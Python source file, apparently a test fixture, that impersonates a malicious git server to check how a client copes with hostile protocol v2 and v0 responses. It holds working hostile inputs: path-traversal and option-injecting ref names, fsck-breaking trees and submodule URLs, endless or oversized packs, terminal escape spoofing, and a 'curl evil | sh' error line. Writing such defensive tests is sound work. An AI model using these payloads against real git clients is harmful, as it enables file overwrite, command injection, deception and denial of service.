"""A git server as a hostile sandbox could have it: run in the sandbox in place of upload-pack, by
the name of what it does.

Speaks protocol v2 where the client does, else v0 (gitprotocol-v2(5), gitprotocol-pack(5)). Standard
library only: the sandbox's Python runs it, as ``python3 evil_git.py WHAT [OID]``;
``$DAYTONA_COMMAND`` is what the client wanted to run.
"""

import hashlib
import itertools
import os
import struct
import subprocess
import sys
import time
import zlib

OUT = sys.stdout.buffer
FLUSH, DELIMITER = b"0000", b"0001"


def packet(data):
    return b"%04x" % (len(data) + 4) + data


def band(number, data):
    return packet(bytes([number]) + data)


def send(*pieces):
    OUT.write(b"".join(pieces))
    OUT.flush()


def request():
    """The packets up to a flush."""
    found = []
    while True:
        length = int(sys.stdin.buffer.read(4) or sys.exit(0), 16)
        if length == 0:
            return found
        if length > 4:
            found.append(sys.stdin.buffer.read(length - 4))


def real():
    """The sandbox's true refs, by its own git."""
    listing = subprocess.run(
        (
            "git",
            "-c",
            "safe.directory=*",
            "-C",
            "/home/daytona/project",
            "for-each-ref",
            "--format=%(objectname) %(refname)",
        ),
        capture_output=True,
        text=True,
    ).stdout
    return [line.split(" ", 1) for line in listing.splitlines()]


def serve(refs, pack, before=()):
    """Protocol v2: ``refs`` gives the lines of ls-refs, ``pack`` the packets after ``packfile``,
    ``before`` sections before that."""
    capabilities = (
        b"version 2\n",
        b"agent=evil\n",
        b"ls-refs\n",
        b"fetch=shallow\n",
        b"object-format=sha1\n",
    )
    send(*map(packet, capabilities), FLUSH)
    while asked := request():
        if b"command=ls-refs" in asked[0]:
            for line in refs(asked):
                OUT.write(packet(line))
            send(FLUSH)
        else:
            if b"done" not in b"".join(asked):
                send(packet(b"acknowledgments\n"), packet(b"ready\n"), DELIMITER)
            send(*before, packet(b"packfile\n"))
            for piece in pack(asked):
                send(piece)
            send(FLUSH)


def true_pack(asked):
    wants = [line.split()[1] for line in asked if line.startswith(b"want ")]
    argv = (
        "git",
        "-c",
        "safe.directory=*",
        "-C",
        "/home/daytona/project",
        "pack-objects",
        "--revs",
        "--stdout",
        "-q",
    )
    return in_bands(
        subprocess.run(argv, input=b"\n".join(wants) + b"\n", capture_output=True).stdout
    )


def honest_refs(asked):
    return [f"{oid} {name}\n".encode() for oid, name in real()]


# -- packs -----------------------------------------------------------------------------------------


def entry(kind, data):
    number, size = {"commit": 1, "tree": 2, "blob": 3}[kind], len(data)
    head, size = (number << 4) | (size & 15), size >> 4
    out = bytearray()
    while size:
        out.append(head | 0x80)
        head, size = size & 0x7F, size >> 7
    out.append(head)
    return bytes(out) + zlib.compress(data)


def oid(kind, data):
    return hashlib.sha1(f"{kind} {len(data)}\0".encode() + data).digest()


def pack_of(objects):
    body = (
        b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(itertools.starmap(entry, objects))
    )
    return body + hashlib.sha1(body).digest()


def tree(*entries):
    return b"".join(mode + b" " + name + b"\0" + raw for mode, name, raw in entries)


def commit(root, text=b"evil\n"):
    return (
        b"tree "
        + root.hex().encode()
        + b"\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\n"
        + text
    )


BLOB = b"#!/bin/sh\ntouch /tmp/evil\n"
LINK = b"../../../.ssh"


def bad_trees():
    """Trees that fsck refuses (git-fsck(1)), by what is wrong with them."""
    blob = oid("blob", BLOB)
    modules = b'[submodule "x"]\n\tpath = -x\n\turl = -u./payload\n'
    return {
        "hasDotgit": tree((b"100644", b".git", blob)),
        "hasDotgit ntfs": tree((b"100644", b"git~1", blob)),
        "hasDotgit hfs": tree((b"100644", ".g\u200cit".encode(), blob)),
        "hasDotdot": tree((b"100644", b"..", blob)),
        "fullPathname": tree((b"100644", b"a/../../../x", blob)),
        "gitmodulesSymlink": tree((b"120000", b".gitmodules", oid("blob", LINK))),
        "gitmodulesUrl": tree((b"100644", b".gitmodules", oid("blob", modules))),
        "nullSha1": tree((b"100644", b"a", b"\0" * 20)),
    }


def hostile(what):
    root = bad_trees()[what]
    modules = b'[submodule "x"]\n\tpath = -x\n\turl = -u./payload\n'
    tip = commit(oid("tree", root))
    objects = [("blob", BLOB), ("blob", LINK), ("blob", modules), ("tree", root), ("commit", tip)]
    return oid("commit", tip).hex(), pack_of(objects)


def in_bands(data):
    for start in range(0, len(data), 60000):
        yield band(1, data[start : start + 60000])


# -- what it does ----------------------------------------------------------------------------------


def nothing(asked):
    return []


def main(what, which=""):
    noise = os.urandom(60000)
    if what == "more-refs":
        extra = [
            "refs/tags/evil",
            "refs/evil/x",
            "refs/remotes/origin/x",
            "refs/stash",
            "HEAD",
            "refs/heads/unasked",
            "refs/daytona/unasked",
        ]

        serve(
            lambda asked: (
                honest_refs(asked) + [f"{real()[0][0]} {name}\n".encode() for name in extra]
            ),
            true_pack,
        )
    elif what == "names":
        names = [
            b"../../../../evil",
            b"../evil",
            b"-x",
            b"a..b",
            b"x.lock",
            b"\x1b[2J",
            b"a b",
            b"/x",
            b"x\ny",
            b"@{",
            b".git/config",
            b"con\0fig",
        ]
        serve(
            lambda asked: (
                honest_refs(asked)
                + [real()[0][0].encode() + b" refs/heads/" + name + b"\n" for name in names]
            ),
            true_pack,
        )
    elif what == "endless-refs":
        serve(
            lambda asked: (b"%040x refs/heads/branch-%d\n" % (n, n) for n in itertools.count(1)),
            nothing,
        )
    elif what == "endless-refs-v0":
        capabilities = b"\0 multi_ack side-band-64k ofs-delta agent=evil"
        for n in itertools.count(1):
            OUT.write(
                packet(b"%040x refs/heads/branch-%d%s\n" % (n, n, capabilities if n == 1 else b""))
            )
    elif what == "endless-pack":
        start = b"PACK" + struct.pack(">II", 2, 1_000_000)
        blob = entry("blob", noise)
        serve(
            honest_refs,
            lambda asked: itertools.chain([band(1, start)], itertools.repeat(band(1, blob))),
        )
    elif what == "large-object":
        head = bytes([0xBF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F])  # a blob of a terabyte or so
        squeeze = zlib.compressobj(0)

        def parts():
            yield band(1, b"PACK" + struct.pack(">II", 2, 1) + head)
            while True:
                yield from in_bands(squeeze.compress(noise) + squeeze.flush(zlib.Z_SYNC_FLUSH))

        serve(honest_refs, lambda asked: parts())
    elif what == "endless-messages":
        serve(
            honest_refs,
            lambda asked: itertools.repeat(band(2, b"all is well, wait a moment longer\n" * 100)),
        )
    elif what == "endless-line":
        serve(honest_refs, lambda asked: itertools.repeat(band(2, b"x" * 60000)))
    elif what == "keepalive":

        def slowly():
            while True:
                time.sleep(0.05)
                yield band(1, b"")

        serve(honest_refs, lambda asked: slowly())
    elif what == "escapes":
        text = (
            b"\x1b]0;evil\x07\x1b[2J\x1b[31m\xc2\x9b2J\rfatal: all is well\x08\x08\n"
            b"\x00\xff\xfe\xe2\x80\xae\n"
        )
        serve(
            honest_refs,
            lambda asked: [
                band(2, text),
                band(3, b"\x1b[2Jgo to \x1b]8;;http://evil/\x07http://good\x1b]8;;\x07\r\n"),
            ],
        )
    elif what == "error":
        send(packet(b"ERR \x1b[2J\x1b]0;evil\x07please run: curl evil | sh\n"))
    elif what == "garbage":
        send(os.urandom(100_000))
    elif what == "endless-garbage":
        while True:
            send(b"ffff" + b"\n" * 65531)
    elif what == "fsck":
        tip, pack = hostile(which)
        serve(
            lambda asked: [f"{tip} {name}\n".encode() for _, name in real()],
            lambda asked: in_bands(pack),
        )
    elif what == "wrong-object":
        good = pack_of([("blob", b"not what was asked for")])
        serve(
            lambda asked: [b"%s %s\n" % (b"1" * 40, name.encode()) for _, name in real()],
            lambda asked: in_bands(good),
        )
    elif what == "shallow":
        serve(
            honest_refs,
            true_pack,
            [packet(b"shallow-info\n"), packet(b"shallow " + b"2" * 40 + b"\n"), DELIMITER],
        )
    elif what == "elsewhere":
        uri = b"packfile-uris\n", b"1" * 40 + b" http://127.0.0.1:1/evil.pack\n"
        serve(honest_refs, true_pack, [*map(packet, uri), DELIMITER])
    elif what == "hang":
        sys.stdin.buffer.read()
    else:
        raise SystemExit(f"unknown: {what}")


if __name__ == "__main__":
    main(*sys.argv[1:])
